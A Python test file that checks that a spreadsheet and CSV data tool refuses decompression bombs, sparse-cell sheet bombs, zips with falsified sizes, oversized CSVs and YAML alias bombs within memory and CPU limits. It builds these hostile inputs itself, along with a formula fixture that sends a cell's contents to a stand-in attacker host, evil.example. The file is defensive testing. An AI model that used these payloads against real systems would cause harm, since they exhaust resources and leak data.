"""Issue 20: bombs, huge and odd files, formulas; each refused clearly within fixed memory and time.

Every load runs in a child process capped in address space and CPU time
(see conftest); the assertions check the refusal a clerk reads, and that it
cost less than 500 MB and 5 CPU seconds.
"""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

import workbench as wb
from workbench.data.synth import generate
from workbench.files import YamlError, safe_yaml_load

from tests.conftest import SAMPLE

from .conftest import ROOT, load_bounded, run_bounded


def _two_cells(ws) -> None:
    ws["A1"] = "x"
    ws["XFD1048576"] = "y"


def _replace_sheet(src: Path, dst: Path, sheet: str, *, state: str = "visible") -> Path:
    """The sample workbook with ``sheet`` replaced by one cell at A1 and one at XFD1048576."""
    book = openpyxl.load_workbook(src)
    if sheet in book.sheetnames:
        del book[sheet]
    ws = book.create_sheet(sheet)
    _two_cells(ws)
    ws.sheet_state = state
    book.save(dst)
    return dst


@pytest.fixture(scope="module")
def small_book(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("small")
    return generate(20, seed=2, years=(2025,)).to_excel(folder / "county.xlsx")


# ---------------------------------------------------------------- workbooks

def test_two_far_apart_cells_are_refused_with_the_figure(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "支部"
    _two_cells(book.active)
    path = tmp_path / "bomb.xlsx"
    book.save(path)
    assert path.stat().st_size < 10_000
    got = load_bounded(path)
    assert not got["loaded"] and got["keys"] == ["data_sheet_too_large"]
    assert "A1:XFD1048576" in got["messages"][0] and "17,179,869,184 cells" in got["messages"][0]


def test_a_bomb_in_the_optional_sheet_of_a_real_workbook(tmp_path, small_book):
    path = _replace_sheet(small_book, tmp_path / "outcomes_bomb.xlsx", "年度成效")
    got = load_bounded(path)
    assert not got["loaded"] and "data_sheet_too_large" in got["keys"]
    assert any("年度成效" in m for m in got["messages"])


def test_a_very_hidden_bomb_sheet_is_not_read(tmp_path, small_book):
    path = _replace_sheet(small_book, tmp_path / "hidden_bomb.xlsx", "数据", state="veryHidden")
    got = load_bounded(path)
    assert got["loaded"] and "data_hidden_sheet_ignored" in got["warnings"]


def test_a_visible_bomb_that_is_no_table_is_ignored_and_named(tmp_path, small_book):
    path = _replace_sheet(small_book, tmp_path / "extra_bomb.xlsx", "草稿")
    got = load_bounded(path)
    assert got["loaded"] and "data_other_sheet_too_large" in got["warnings"]


def _zip_with_part(src: Path, dst: Path, part: str, chunks, *, count: int) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename == part:
                with zout.open(part, "w", force_zip64=True) as out:
                    for _ in range(count):
                        out.write(chunks)
            else:
                zout.writestr(item, zin.read(item.filename))
    return dst


def test_a_compressed_bomb_is_refused_before_it_is_inflated(tmp_path, small_book):
    # the shared strings part says 640 MB: refused from the zip directory, nothing inflated
    row = b"<si><t>" + b"x" * 1000 + b"</t></si>"
    with zipfile.ZipFile(small_book) as z:
        names = z.namelist()
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/worksheets/sheet1.xml"
    path = _zip_with_part(small_book, tmp_path / "zipbomb.xlsx", part, row * 1024, count=640)
    assert path.stat().st_size < 20 * 2**20
    got = load_bounded(path)
    assert not got["loaded"] and got["keys"] == ["data_workbook_too_large"]
    assert "over the limit" in got["messages"][0]


def _patch_sizes(path: Path, part: str, size: int) -> None:
    """Make the zip say that ``part`` inflates to ``size`` bytes (a lie: the data is larger)."""
    raw = bytearray(path.read_bytes())
    name = part.encode()
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        n, m, k = struct.unpack_from("<HHH", raw, at + 28)
        if raw[at + 46: at + 46 + n] == name:
            struct.pack_into("<I", raw, at + 24, size)
            local = struct.unpack_from("<I", raw, at + 42)[0]
            struct.pack_into("<I", raw, local + 22, size)
        at = raw.find(b"PK\x01\x02", at + 46 + n + m + k)
    path.write_bytes(bytes(raw))


def test_a_zip_that_lies_about_its_sizes_is_refused_as_damaged(tmp_path, small_book):
    path = tmp_path / "liar.xlsx"
    shutil.copy(small_book, path)
    _patch_sizes(path, "xl/worksheets/sheet2.xml", 1000)
    got = load_bounded(path)
    assert not got["loaded"] and "data_not_a_workbook" in got["keys"]


def test_formula_cells_are_reported_as_formulas(tmp_path, small_book):
    book = openpyxl.load_workbook(small_book)
    ws = book["党员"]
    ws["C2"] = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    ws["E3"] = "=1985+0"
    book.save(tmp_path / "formulas.xlsx")
    got = load_bounded(tmp_path / "formulas.xlsx")
    assert not got["loaded"] and got["keys"] == ["data_formula_no_value"] * 2


def test_an_old_xls_or_encrypted_workbook(tmp_path):
    path = tmp_path / "old.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000)
    got = load_bounded(path)
    assert got["keys"] == ["data_xls_or_encrypted"]


# ---------------------------------------------------------------------- CSV

def _csv_folder(tmp_path, name="c") -> Path:
    return generate(8, seed=3, years=(2025,)).to_csv(tmp_path / name)


def test_a_huge_csv_is_refused_by_its_size_without_reading(tmp_path):
    folder = _csv_folder(tmp_path)
    with open(folder / "trainings.csv", "r+b") as handle:
        handle.truncate(2 * 2**30)  # a sparse 2 GB file: nothing is on disk
    got = load_bounded(folder)
    assert not got["loaded"] and got["keys"] == ["data_file_too_large"]
    assert "2,048.0 MB" in got["messages"][0]


def test_a_long_csv_within_the_file_size_stops_at_the_cell_budget(tmp_path):
    folder = _csv_folder(tmp_path)
    with open(folder / "trainings.csv", "a", encoding="utf-8") as handle:
        line = "T9,M0000001,2025-01-01,1,online\n"
        handle.write(line * 400_000)
    got = load_bounded(folder, budget={"max_cells": 1_000_000})
    assert not got["loaded"] and got["keys"] == ["data_csv_too_many_cells"]


def test_a_csv_with_a_million_columns(tmp_path):
    folder = _csv_folder(tmp_path)
    (folder / "members.csv").write_text(",".join(f"c{i}" for i in range(10**6)) + "\n1,2\n")
    got = load_bounded(folder)
    assert got["keys"] == ["data_too_many_columns"] and "512" in got["messages"][0]


@pytest.mark.parametrize("encode, key", [
    (lambda text: text.encode("utf-32"), "data_encoding_utf32"),
    (lambda text: b"\xef\xbb\xbf" + text.encode("gbk"), "data_encoding_bom_gbk"),
])
def test_unsupported_encodings_are_named(tmp_path, encode, key):
    folder = _csv_folder(tmp_path)
    text = (folder / "branches.csv").read_text(encoding="utf-8")
    (folder / "branches.csv").write_bytes(encode(text.replace("branch_id", "支部编号")))
    got = load_bounded(folder)
    assert got["keys"] == [key]


# --------------------------------------------------------------------- YAML

ALIAS_BOMB = """
a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
steps: [*i]
"""


def test_a_yaml_alias_bomb_is_refused_at_once():
    report = run_bounded(f"""
from workbench.files import safe_yaml_load, YamlError
try:
    safe_yaml_load({ALIAS_BOMB!r}, source="scenario.yaml")
    result = "loaded"
except YamlError as err:
    result = str(err)
""")
    assert report["result"] == ("scenario.yaml: aliases expand it to more than 1,000,000 values; "
                                "write the values out")
    assert report["rss_mb"] < 500 and report["cpu"] < 5


def test_yaml_errors_never_quote_the_document():
    with pytest.raises(YamlError) as info:
        safe_yaml_load("key: [unclosed\n" + "x" * 10_000, source="f.yaml")
    assert len(str(info.value)) < 200 and "f.yaml, line" in str(info.value)
    with pytest.raises(YamlError, match="over the limit"):
        safe_yaml_load("a: b\n" * 10**6, source="big.yaml")
    deep = "a: " + "[" * 200 + "]" * 200
    with pytest.raises(YamlError, match="nested"):
        safe_yaml_load(deep, source="deep.yaml")
    with pytest.raises(YamlError, match="recursive alias"):
        safe_yaml_load("a: &a [1, *a]", source="loop.yaml")
    # an alias that repeats a value (what yaml.safe_dump writes for a shared object) is fine
    assert safe_yaml_load("a: &x [1, 2]\nb: *x") == {"a": [1, 2], "b": [1, 2]}


# ---------------------------------------------------------------------- CLI

def _cli(*args, cwd=ROOT):
    return subprocess.run([sys.executable, "-m", "workbench.cli", *args], capture_output=True, text=True,
                          cwd=cwd, timeout=120)


def test_cli_os_errors_are_one_line_with_the_path(tmp_path):
    long_path = tmp_path / ("x" * 300) / "county.xlsx"
    got = _cli("check", str(long_path))
    assert got.returncode == 1 and "Traceback" not in got.stderr
    assert len(got.stderr.strip().splitlines()) <= 2
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    got = _cli("sample", "--branches", "3", "--xlsx", str(blocker / "x.xlsx"))
    assert got.returncode == 1 and "Traceback" not in got.stderr
    assert got.stderr.startswith("error: ") and "file" in got.stderr and len(got.stderr.splitlines()) == 1
    got = _cli("template", "-o", str(blocker / "t.xlsx"))
    assert got.returncode == 1 and "Traceback" not in got.stderr


def test_cli_check_of_a_bomb_prints_the_figure(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "党员"
    _two_cells(book.active)
    book.save(tmp_path / "b.xlsx")
    got = _cli("check", str(tmp_path / "b.xlsx"), "--lang", "zh")
    assert got.returncode == 1 and "Traceback" not in got.stderr
    assert "17,179,869,184 个单元格" in got.stderr


def test_upload_of_a_bomb_is_refused_in_memory(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "支部"
    _two_cells(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    report = run_bounded(f"""
try:
    wbdata.load_files({{"county.xlsx": {buffer.getvalue()!r}}})
    result = "loaded"
except DataError as err:
    result = err.problems["key"].tolist()
""")
    assert report["result"] == ["data_sheet_too_large"] and report["rss_mb"] < 500
